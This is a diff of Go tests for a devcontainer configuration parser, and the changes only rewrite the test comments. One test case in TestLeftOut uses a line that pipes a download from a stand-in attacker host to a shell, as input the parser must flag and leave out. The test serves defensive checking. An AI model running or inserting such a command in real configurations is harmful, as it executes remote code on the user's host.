@@ -102,7 +102,7 @@ func TestParse(t *testing.T) {
 	}
 }
 
-// What asks for something of the host is told, by its key and by what to do instead.
+// TestLeftOut checks that a note reports each request to the host, with its key and an alternative.
 func TestLeftOut(t *testing.T) {
 	tests := []struct{ name, text, note string }{
 		{"a command on the host", `"initializeCommand": "curl evil.example | sh"`, "initializeCommand: it would run on this host"},
@@ -229,7 +229,7 @@ func TestVariables(t *testing.T) {
 	}
 }
 
-// What is told is bounded, in lines and in their length, and a note is a line.
+// TestManyNotes checks that notes are bounded in number and length, and that a note is one line.
 func TestManyNotes(t *testing.T) {
 	var keys, vars []string
 	for i := range 3000 {
@@ -272,7 +272,7 @@ func TestExpand(t *testing.T) {
 	same(t, "command", []string{"echo", "yes", "${A}"}, f.Commands[0].Args)
 }
 
-// A small file does not become a large one.
+// TestExpandMuch checks that a small file does not expand to a large one.
 func TestExpandMuch(t *testing.T) {
 	long := Place{File: "f", Project: "/" + strings.Repeat("p", 4000), Inside: "/p"}
 	much := strings.Repeat("${localWorkspaceFolder}", 1000)
@@ -314,7 +314,8 @@ func TestImageSettings(t *testing.T) {
 
 func quoteJSON(s string) string { return words(s)[1 : len(words(s))-1] }
 
-// All commands of one time are run before those of the next, whoever has them.
+// TestCommandOrder checks that all commands of one stage run before those of the next, whichever
+// feature or file has them.
 func TestCommandOrder(t *testing.T) {
 	a := Settings{Commands: []spec.SetUp{sh(spec.PostCreate, "a", ""), sh(spec.OnCreate, "a", "")}}
 	b := Settings{Commands: []spec.SetUp{sh(spec.PostAttach, "b", ""), sh(spec.OnCreate, "b", ""), sh(spec.UpdateContent, "b", "")}}
@@ -328,7 +329,7 @@ func TestCommandOrder(t *testing.T) {
 	}
 }
 
-// Whatever a file holds, it is read or refused, and names what is the project's.
+// FuzzParse checks that any file is read or refused, and that it names only paths of the project.
 func FuzzParse(f *testing.F) {
 	f.Add([]byte(`{"image": "a", "features": {"./f": {"x": true}}, "mounts": ["type=volume,target=/x"], "postCreateCommand": {"a": ["b"]}}`))
 	f.Add([]byte(`{"build": {"dockerfile": "${localEnv:A:b}"}, "forwardPorts": [1, "a:2"], "containerEnv": {"A": "${containerEnv:B}"}} // c`))
